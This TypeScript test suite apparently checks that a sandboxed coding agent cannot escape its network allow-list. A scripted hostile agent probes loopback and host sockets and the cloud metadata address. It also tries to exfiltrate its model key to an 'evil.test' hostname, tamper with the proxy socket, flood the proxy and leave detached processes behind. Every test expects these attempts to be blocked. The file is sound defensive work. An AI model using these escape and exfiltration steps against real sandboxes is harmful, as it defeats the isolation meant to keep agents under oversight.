import { createSocket } from 'node:dgram';
import { readdirSync, writeFileSync } from 'node:fs';
import { createServer as createHttpServer } from 'node:http';
import { createServer, type Server, type Socket } from 'node:net';
import { networkInterfaces } from 'node:os';
import { join } from 'node:path';
import { aRequest } from '@mergexo/testkit';
import { createCommandAgent } from '../command/command.js';
import type { HostRule } from '../network/host-rule.js';
import { type Bench, createBench } from '../testing/bench.js';
import { aRule } from '../testing/proxy-bench.js';
import { describeIn, findSandboxes } from '../testing/sandboxes.js';
import type { AgentEvent } from '../turn/agent.js';
import { runRepositoryProgram } from './run-repository-program.js';

const { bubblewrap } = await findSandboxes(process.env);
const KEY = 'sk-canary-of-the-model-key-0123456789';

/** Services on the worker's machine. The agent must not reach any of them. */
type Machine = {
  tcp: number;
  udp: number;
  abstract: string;
  socketPath: string;
  model: number;
  /** An address of this machine other than loopback. */
  address: string;
  contacts: string[];
  close(): Promise<void>;
};

async function startMachine(directory: string): Promise<Machine> {
  const contacts: string[] = [];
  const sockets = new Set<Socket>();
  const note = (name: string) => (socket: Socket) => {
    contacts.push(name);
    sockets.add(socket);
    socket.end('secret of the machine');
    socket.on('error', () => {});
  };
  const listen = async (server: Server, at: object): Promise<Server> => {
    await new Promise<void>((resolve) => void server.listen(at, resolve));
    return server;
  };
  const abstract = `mx-${process.pid}-${directory.slice(-6)}`;
  const socketPath = join(directory, 'service.sock');
  const tcp = await listen(createServer(note('tcp')), { port: 0, host: '::' });
  const hidden = await listen(createServer(note('abstract')), { path: `\0${abstract}` });
  const file = await listen(createServer(note('unix')), { path: socketPath });
  const model = createHttpServer((_request, response) => response.end('from the model'));
  await listen(model, { port: 0, host: '127.0.0.1' });
  const udp = createSocket('udp4', () => contacts.push('udp'));
  await new Promise<void>((resolve) => void udp.bind(0, resolve));
  const portOf = (server: Server): number => Object(server.address()).port;
  const outside = Object.values(networkInterfaces())
    .flatMap((found) => found ?? [])
    .find(({ internal, family }) => !internal && family === 'IPv4');
  return {
    tcp: portOf(tcp),
    udp: udp.address().port,
    abstract,
    socketPath,
    model: portOf(model),
    address: outside?.address ?? '127.0.0.2',
    contacts,
    close: async () => {
      for (const socket of sockets) socket.destroy();
      model.closeAllConnections();
      udp.close();
      const servers = [tcp, hidden, file, model];
      await Promise.all(servers.map((server) => new Promise((resolve) => server.close(resolve))));
    },
  };
}

/** Functions that the hostile script can call. */
const TOOLS = `
import dgram from 'node:dgram';
import dns from 'node:dns/promises';
import http from 'node:http';
const PROXY = '/run/mergexo/proxy.sock';
const dial = (where) => new Promise((resolve) => {
  const socket = net.connect(where);
  let text = '';
  socket.setTimeout(1500, () => socket.destroy());
  socket.on('data', (chunk) => { text += chunk; });
  socket.on('error', (error) => resolve('failed: ' + error.code));
  socket.on('close', () => resolve(text === '' ? 'failed: nothing' : 'reached: ' + text));
});
const ask = (where, bytes) => new Promise((resolve) => {
  const socket = net.connect(where, () => socket.write(bytes));
  let text = '';
  socket.setTimeout(1500, () => socket.destroy());
  socket.on('data', (chunk) => { text += chunk; });
  socket.on('error', (error) => resolve('failed: ' + error.code));
  socket.on('close', () => resolve(text));
});
const shout = (port, host) => new Promise((resolve) => {
  const socket = dgram.createSocket('udp4');
  socket.send('hello', port, host, (error) => {
    socket.close();
    resolve(error === null ? 'sent' : 'failed: ' + error.code);
  });
});
const tunnel = (target) => ask(PROXY, 'CONNECT ' + target + ' HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n');
const viaProxy = (url) => {
  const { hostname, port } = new URL(process.env.HTTP_PROXY);
  return ask({ host: hostname, port }, 'GET ' + url + ' HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n');
};
`;

describeIn(bubblewrap, 'an agent in $name with a list of hosts', ({ sandbox }) => {
  let bench: Bench;
  let machine: Machine;
  let events: AgentEvent[];
  beforeEach(async () => {
    bench = createBench(sandbox, { PATH: process.env['PATH'], MODEL_KEY: KEY });
    machine = await startMachine(bench.dir);
    events = [];
  });
  afterEach(async () => {
    await machine.close();
    bench.remove();
  });

  async function play(lines: string, rules?: HostRule[]): Promise<unknown> {
    const { host, script } = bench;
    const network = rules ?? [aRule('127.0.0.1', machine.model)];
    const argv = script(`${TOOLS}\nconst m = ${JSON.stringify({ ...machine, contacts: [] })};\n${lines}`);
    const agent = createCommandAgent({
      host: { ...host, network, passEnv: ['MODEL_KEY'] },
      argv,
      limits: { wallMs: 30_000 },
    });
    const context = bench.turnContext({ onEvent: (event) => void events.push(event) });
    const run = await agent.runTurn(aRequest('bugfix_start'), context);
    if (run.kind === 'failed') throw new Error(run.message);
    return run.output;
  }
  const refusedHosts = () => events.flatMap((event) => (event.kind === 'refused-host' ? event.host : []));

  it('reaches its model through the proxy (the control)', async () => {
    const output = await play('answer(await viaProxy("http://127.0.0.1:" + m.model));');
    expect(output).toContain('from the model');
    expect(refusedHosts()).toEqual([]);
  });

  it.each([
    ['a TCP service on loopback', 'dial({ port: m.tcp, host: "127.0.0.1" })'],
    ['a TCP service on IPv6 loopback', 'dial({ port: m.tcp, host: "::1" })'],
    ['a TCP service on the unspecified address', 'dial({ port: m.tcp, host: "0.0.0.0" })'],
    ['a TCP service on an address of the machine', 'dial({ port: m.tcp, host: m.address })'],
    ['its own model without the proxy', 'dial({ port: m.model, host: "127.0.0.1" })'],
    ['a public address', 'dial({ port: 443, host: "93.184.216.34" })'],
    ['the metadata service', 'dial({ port: 80, host: "169.254.169.254" })'],
    ['a UDP service on an address of the machine', 'shout(m.udp, m.address)'],
    ['a name server by UDP', 'shout(53, "8.8.8.8")'],
    [
      'a name through the resolver',
      'dns.lookup("example.com").then(() => "resolved", (e) => "failed: " + e.code)',
    ],
    ['an abstract Unix socket', 'dial({ path: "\\0" + m.abstract })'],
    ['a Unix socket of the machine', 'dial({ path: m.socketPath })'],
  ])('cannot reach %s', async (_what, attack) => {
    expect(await play(`answer(await ${attack});`)).toMatch(/^failed: /);
    expect(machine.contacts).toEqual([]);
  });

  it('cannot send UDP packets to the machine on loopback', async () => {
    await play('answer(await shout(m.udp, "127.0.0.1"));');
    expect(machine.contacts).toEqual([]);
  });

  it.each([
    ['through the proxy variables', 'viaProxy("http://127.0.0.1:" + m.tcp)'],
    ['through the proxy’s socket', 'tunnel("127.0.0.1:" + m.tcp)'],
    ['by a name that resolves to loopback', 'tunnel("localhost:" + m.tcp)'],
    ['on another port of the allowed host', 'tunnel("127.0.0.1:22")'],
  ])('cannot reach a forbidden host %s, and the turn reports the host', async (_what, attack) => {
    expect(await play(`answer(await ${attack});`)).toMatch(/^HTTP\/1\.1 403 /);
    expect(machine.contacts).toEqual([]);
    expect(refusedHosts()).toEqual([expect.stringMatching(/^(?:127\.0\.0\.1|localhost):\d+$/)]);
  });

  it.each([
    ['remove the socket of the proxy', 'fs.unlinkSync(PROXY)'],
    ['replace the socket of the proxy', 'fs.renameSync(PROXY, PROXY + "2")'],
    ['add a file next to the socket', 'fs.writeFileSync("/run/mergexo/x", "")'],
    [
      'change the program that joins the proxy',
      'fs.writeFileSync(fs.readFileSync("/proc/2/cmdline", "utf8").split("\\0")[1], "")',
    ],
  ])('cannot %s', async (_what, attack) => {
    expect(await play(`answer(attempt(() => ${attack}) ?? 'done');`)).toMatch(/^E/);
  });

  it('cannot see the proxies of other runs', async () => {
    const output = await play(`answer(attempt(() => fs.readdirSync(${JSON.stringify(bench.runsDir)})));`);
    expect(output).toBe('ENOENT');
  });

  it.each([
    ['markup', 'viaProxy("/<b>`|@all")', /^\?{2}b\?{4}all$/],
    ['a name of 5,000 characters', 'tunnel("a".repeat(5000) + ".test:443")', /^a{100}$/],
    [
      'its key as a name',
      'tunnel(process.env.MODEL_KEY + ".evil.test:443")',
      /^\[redacted\]\.evil\.test:443$/,
    ],
  ])('cannot put %s into the timeline', async (_what, attack, expected) => {
    await play(`answer(await ${attack});`);
    expect(refusedHosts()).toEqual([expect.stringMatching(expected)]);
    expect(JSON.stringify(events)).not.toContain(KEY);
  });

  it('finishes its turn even if it floods the proxy', async () => {
    const output = await play(`
      const sockets = Array.from({ length: 2000 }, () => net.connect(PROXY).on('error', () => {}).resume());
      await new Promise((resolve) => setTimeout(resolve, 1000));
      const open = sockets.filter((socket) => !socket.closed && !socket.connecting).length;
      for (const socket of sockets) socket.destroy();
      answer({ open });
    `);
    expect(Object(output).open).toBeLessThanOrEqual(128);
  });

  it('leaves no process, no socket and no directory behind', async () => {
    await play(`
      spawn(process.execPath, ['-e', 'setInterval(() => {}, 1000)'], { detached: true, stdio: 'ignore' }).unref();
      answer('left');
    `);
    expect(readdirSync(bench.runsDir)).toEqual([]);
  });

  it('reports the same exit code as without a proxy if it exits or is killed', async () => {
    await expect(play('process.exit(7);')).rejects.toThrow('code 7');
    await expect(play('process.kill(process.pid, "SIGKILL");')).rejects.toThrow(/signal 9|SIGKILL/);
  });
});

describeIn(bubblewrap, 'required tests in $name with a network setting', ({ sandbox }) => {
  let bench: Bench;
  let machine: Machine;
  beforeEach(async () => {
    bench = createBench(sandbox, { PATH: process.env['PATH'] });
    machine = await startMachine(bench.dir);
  });
  afterEach(async () => {
    await machine.close();
    bench.remove();
  });

  it.each<['none' | 'allow-list', string]>([
    ['none', 'no proxy'],
    ['allow-list', 'HTTP/1.1 403'],
  ])('cannot reach the machine with %s', async (mode, expected) => {
    const refused: string[] = [];
    const { cwd, home, host } = bench;
    const lines = `${TOOLS.replaceAll(/^import .*$/gm, '')}
      (async () => {
        console.log(await dial({ port: ${machine.tcp}, host: '127.0.0.1' }));
        console.log(process.env.HTTP_PROXY ? await viaProxy('http://127.0.0.1:${machine.tcp}/') : 'no proxy');
        process.exit(1);
      })();`;
    const head = "#!/usr/bin/env node\nconst net = require('node:net');\n";
    writeFileSync(join(cwd, 'test'), head + lines, { mode: 0o755 });
    const run = await runRepositoryProgram(host, {
      path: 'test',
      cwd,
      home,
      timeoutMs: 20_000,
      signal: new AbortController().signal,
      network: mode === 'none' ? 'none' : [aRule('example.com', 443)],
      onRefusedHost: (name) => void refused.push(name),
    });
    expect(run).toMatchObject({ kind: 'failed', output: expect.stringContaining('failed: ECONNREFUSED') });
    expect(run).toMatchObject({ output: expect.stringContaining(expected) });
    expect(machine.contacts).toEqual([]);
    expect(refused).toEqual(mode === 'none' ? [] : [`127.0.0.1:${machine.tcp}`]);
    expect(readdirSync(bench.runsDir)).toEqual([]);
  });
});
